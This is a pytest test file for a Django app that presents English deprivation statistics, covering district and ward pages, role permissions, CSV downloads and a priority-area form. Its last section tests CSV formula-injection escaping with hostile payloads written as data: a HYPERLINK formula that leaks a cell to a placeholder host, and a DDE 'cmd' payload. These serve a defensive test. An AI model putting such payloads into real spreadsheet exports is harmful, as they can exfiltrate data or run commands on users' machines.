"""The pages: what each role sees, CSV downloads, forms that keep what was typed."""

import csv
import io

import pytest

from equalchance.accounts.models import Role
from equalchance.accounts.tests.factories import UserFactory
from equalchance.places.models import PriorityArea

pytestmark = pytest.mark.django_db
SOLIHULL = "E08000029"


@pytest.fixture
def analyst(client):
    user = UserFactory(username="analyst", role=Role.ANALYST)
    client.force_login(user)
    return user


@pytest.fixture
def viewer(client):
    user = UserFactory(username="viewer", role=Role.VIEWER)
    client.force_login(user)
    return user


def rows_of(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_profile_shows_the_published_measures(client, viewer):
    response = client.get(f"/places/districts/{SOLIHULL}/?release=2019")
    html = response.content.decode()
    assert response.status_code == 200
    assert "17.370" in html and "171 out of 317" in html  # IMD average score and its rank, as published
    assert "0.1194" in html  # proportion of LSOAs in the most deprived 10%
    assert "As published by MHCLG for IoD2019" in html


def test_the_profile_opens_on_iod2025_with_ranks_out_of_296_and_says_why_there_is_no_population(
    client, viewer
):
    response = client.get(f"/places/districts/{SOLIHULL}/")
    html = response.content.decode()
    assert response.context["release"] == 2025
    assert 'value="2025" selected' in html
    assert "As published by MHCLG for IoD2025" in html and "corrected version of November 2025" in html
    summary = {m["measure"]: m for _, _, rows in response.context["summary"] for m in rows}
    assert all(m["of"] == 296 and "missing" not in m for m in summary.values())
    assert len([m for _, _, rows in response.context["summary"] for m in rows]) == 28  # all of File 10
    assert "out of 296" in html and "out of 317" not in html
    assert "population figures for IoD2025 neighbourhoods are not in the open data" in html


def test_the_profile_downloads_as_csv_in_the_command_line_shape(client, viewer):
    rows = rows_of(client.get(f"/places/districts/{SOLIHULL}/?format=csv&release=2019"))
    assert rows[0] == [
        "area_code",
        "area_name",
        "domain",
        "measure",
        "value",
        "rank",
        "ranked_among",
        "source",
    ]
    assert ["E08000029", "Solihull", "imd", "average_score", "17.370", "171", "317", "published"] in rows
    assert len(rows) == 1 + 13
    current = rows_of(client.get(f"/places/districts/{SOLIHULL}/?format=csv"))
    assert len(current) == 1 + 28 and {r[6] for r in current[1:]} == {"296"}


def test_the_lsoa_table_and_its_csv_agree_and_follow_the_filters(client, viewer):
    page = client.get(f"/places/districts/{SOLIHULL}/areas/?max_decile=1&release=2019")
    assert page.context["areas"] and all(a["decile"] == 1 for a in page.context["areas"])
    rows = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?max_decile=1&format=csv&release=2019"))
    assert [r[0] for r in rows[1:]] == [a["code"] for a in page.context["areas"]]
    assert len(rows) - 1 == 16
    everything = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?format=csv&sort=name&release=2019"))
    assert len(everything) - 1 == 134
    names = [r[1] for r in everything[1:]]
    assert names == sorted(names)


def test_the_ward_view_ranks_wards_and_the_map_carries_their_boundaries(client, viewer):
    page = client.get(f"/places/districts/{SOLIHULL}/areas/?level=ward&domain=income&release=2019")
    assert page.context["level"] == "ward" and len(page.context["areas"]) == 17
    assert page.context["features"].count('"type":"Feature"') == 17


def test_a_release_without_ward_summaries_says_so_and_shows_lsoas(client, viewer):
    page = client.get(f"/places/districts/{SOLIHULL}/areas/?level=ward&release=2025")
    assert page.context["level"] == "lsoa" and "population denominators" in page.context["notice"]
    assert len(page.context["areas"]) == 134


def test_wards_are_not_ranked_on_a_supplementary_index_and_the_page_says_why(client, viewer):
    page = client.get(f"/places/districts/{SOLIHULL}/areas/?level=ward&release=2019&domain=idaci")
    assert page.context["level"] == "lsoa"
    assert "MHCLG gives no such summary of Income Deprivation Affecting Children" in page.context["notice"]


def test_the_map_and_list_open_on_iod2025_with_2021_lsoas(client, viewer):
    page = client.get(f"/places/districts/{SOLIHULL}/areas/")
    assert page.context["release"] == 2025
    assert {a["of"] for a in page.context["areas"]} == {33_755}
    assert page.context["features"].count('"type":"Feature"') == 134  # 2021 LSOA boundaries


def test_change_page_says_plainly_that_the_lookup_is_not_one_to_one(client, viewer):
    html = client.get("/places/districts/E08000018/change/?compare=2019-2025").content.decode()
    assert "not strictly comparable" in html and "not one-to-one" in html
    rows = rows_of(client.get("/places/districts/E08000018/change/?compare=2019-2025&format=csv"))
    assert len(rows) - 1 == 167 and {r[8] for r in rows[1:]} >= {"U", "S"}


def test_all_districts_are_listed_and_sortable(client, viewer):
    page = client.get("/places/districts/?sort=extent&release=2019")
    districts = page.context["districts"]
    assert len(districts) == 317 and districts[0]["name"] == "Liverpool"


def test_the_district_list_opens_on_iod2025_ranked_out_of_296(client, viewer):
    page = client.get("/places/districts/?sort=average_score")
    districts = page.context["districts"]
    assert page.context["release"] == 2025 and len(districts) == 296
    assert "Ranks are out of 296 districts" in page.content.decode()
    assert [rank for _, rank in districts[0]["cells"]][0] == 1


def test_a_district_of_another_release_says_so_rather_than_showing_empty_tables(client, viewer):
    page = client.get("/places/districts/E07000155/")  # South Northamptonshire: in 2019, not in 2025
    assert page.status_code == 200 and "is not a district in IoD2025" in page.content.decode()
    assert "is not a district" not in client.get("/places/districts/E07000155/?release=2019").content.decode()


def test_an_unknown_district_is_not_found(client, viewer):
    assert client.get("/places/districts/E08999999/").status_code == 404


def test_a_viewer_cannot_open_or_post_the_priority_area_form(client, viewer):
    assert client.get(f"/places/districts/{SOLIHULL}/priority-areas/new/").status_code == 403
    response = client.post(
        f"/places/districts/{SOLIHULL}/priority-areas/new/", {"name": "X", "method": "rule"}
    )
    assert response.status_code == 403 and not PriorityArea.objects.exists()


def test_the_form_keeps_what_was_typed_when_it_is_wrong(client, analyst):
    response = client.post(
        f"/places/districts/{SOLIHULL}/priority-areas/new/",
        {"name": "Regeneration Wards", "description": "North Solihull", "method": "wards"},
    )
    html = response.content.decode()
    assert response.status_code == 200 and "There is a problem" in html
    assert 'value="Regeneration Wards"' in html and "North Solihull" in html
    # The summary leads to the first ward's box (there is no element with the group's own id).
    assert '<a href="#id_wards_0">Select at least one ward</a>' in html and 'id="id_wards_0"' in html
    assert not PriorityArea.objects.exists()


def test_an_analyst_creates_a_priority_area_and_sees_its_profile(client, analyst):
    response = client.post(
        f"/places/districts/{SOLIHULL}/priority-areas/new/",
        {"name": "Regeneration Wards", "method": "wards", "wards": ["E05001287", "E05001300", "E05001290"]},
    )
    area = PriorityArea.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/places/priority-areas/{area.pk}/"
    page = client.get(response["Location"] + "?release=2019")
    profile = {row.name: row for row in page.context["profile"].decile_profile}
    assert profile["Regeneration Wards"].lsoas == 25
    assert profile["Rest of Solihull"].lsoas == 134 - 25
    assert (
        profile["Regeneration Wards"].population + profile["Rest of Solihull"].population
        == profile["Solihull"].population
    )
    assert abs(sum(profile["Regeneration Wards"].shares) - 1) < 1e-9
    rows = rows_of(client.get(f"/places/priority-areas/{area.pk}/?format=csv"))
    assert {r[0] for r in rows[1:]} == {"Regeneration Wards", "Rest of Solihull"}


def test_the_iod2025_priority_area_profile_explains_every_measure_it_cannot_compute(client, analyst):
    from equalchance.places.models import Area
    from equalchance.places.services import priority_area_create

    area = priority_area_create(
        name="Regeneration Wards",
        district=Area.objects.get(code=SOLIHULL),
        by=analyst,
        method="wards",
        codes=["E05001287", "E05001300", "E05001290"],
        description="",
    )
    page = client.get(f"/places/priority-areas/{area.pk}/")
    html = page.content.decode()
    profile = page.context["profile"]
    assert page.context["release"] == 2025 and profile.geography == "2024" and profile.translated
    assert not profile.by_population and all(row.population is None for row in profile.decile_profile)
    assert abs(sum(profile.decile_profile[0].shares) - 1) < 1e-9  # shares of LSOAs, not people
    assert "these shares count LSOAs" in html and 'data-testid="missing-measures"' in html
    for _, tables in page.context["summary_tables"]:
        cells = {(domain, m["measure"]): m for domain, _, rows in tables for m in rows}
        assert ("imd", "proportion_most_deprived_10pc") in cells
        for (_domain, measure), cell in cells.items():  # every measure: a value, or why not
            if measure == "proportion_most_deprived_10pc":
                assert cell["value"] and cell["of"] == 296
            else:
                assert "population denominators" in cell["missing"]
        assert len(cells) == 28
    assert "Not computed. Needs population denominators" in html


# ---------------------------------------------------------------------------------------------------
# Names are text in every CSV download, never a live spreadsheet formula

FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")'


def test_a_priority_area_named_as_a_formula_downloads_as_text(client, analyst):
    from equalchance.places.models import Area
    from equalchance.places.services import priority_area_create

    area = priority_area_create(
        name=FORMULA,
        district=Area.objects.get(code=SOLIHULL),
        by=analyst,
        method="wards",
        codes=["E05001287"],
        description="",
    )
    rows = rows_of(client.get(f"/places/priority-areas/{area.pk}/?format=csv"))
    assert {r[0] for r in rows[1:]} == {"'" + FORMULA, "Rest of Solihull"}


def test_lsoa_and_ward_names_beginning_like_formulas_download_as_text(client, viewer):
    from equalchance.places.models import Area

    lsoa = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?format=csv"))[1]
    Area.objects.filter(code=lsoa[0]).update(name="+cmd|' /C calc'!A0")
    Area.objects.filter(code="E05001287").update(name="@SUM(1,2)")
    areas = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?format=csv"))
    assert ["'+cmd|' /C calc'!A0"] == [r[1] for r in areas if r[0] == lsoa[0]]
    assert "'@SUM(1,2)" in {r[8] for r in areas}
    change = rows_of(client.get(f"/places/districts/{SOLIHULL}/change/?compare=2015-2019&format=csv"))
    assert "'@SUM(1,2)" in {r[2] for r in change}
    assert not any(cell.startswith(("=", "+", "@")) for row in areas + change for cell in row)


def test_district_names_beginning_like_formulas_are_text_in_downloads_and_the_command(client, viewer):
    from django.core.management import call_command

    from equalchance.places import selectors
    from equalchance.places.models import Area

    Area.objects.filter(code=SOLIHULL).update(name="-1+1")
    selectors.summaries_cache_clear()  # district names are read with the cached summaries
    try:
        rows = rows_of(client.get(f"/places/districts/{SOLIHULL}/?format=csv"))
        assert {r[1] for r in rows[1:]} == {"'-1+1"}
        everyone = rows_of(client.get("/places/districts/?format=csv"))
        assert "'-1+1" in {r[1] for r in everyone}
        out = io.StringIO()
        call_command(
            "deprivation", "summaries", release=2019, level="district", district=SOLIHULL, stdout=out
        )
        command = list(csv.reader(io.StringIO(out.getvalue())))
        assert {r[1] for r in command[1:]} == {"'-1+1"}
        # numbers are written as before
        assert [r[4] for r in command if r[2:4] == ["imd", "average_score"]] == ["17.370"]
    finally:
        selectors.summaries_cache_clear()


def test_the_priority_area_form_offers_iod2025_rules_first_and_by_default(client, analyst):
    html = client.get(f"/places/districts/{SOLIHULL}/priority-areas/new/").content.decode()
    assert '<option value="2025" selected>IoD2025 (2021 LSOAs; the current release)</option>' in html
    response = client.post(
        f"/places/districts/{SOLIHULL}/priority-areas/new/",
        {"name": "Most deprived", "method": "rule", "rule_domain": "imd", "rule_max_decile": "1"},
    )
    version = PriorityArea.objects.get().current_version
    assert response.status_code == 302 and (version.rule_release, version.geography) == (2025, "2024")
    page = client.get(response["Location"])
    assert page.context["release"] == 2025 and not page.context["profile"].translated
    assert "on 2021 LSOAs" in page.content.decode()
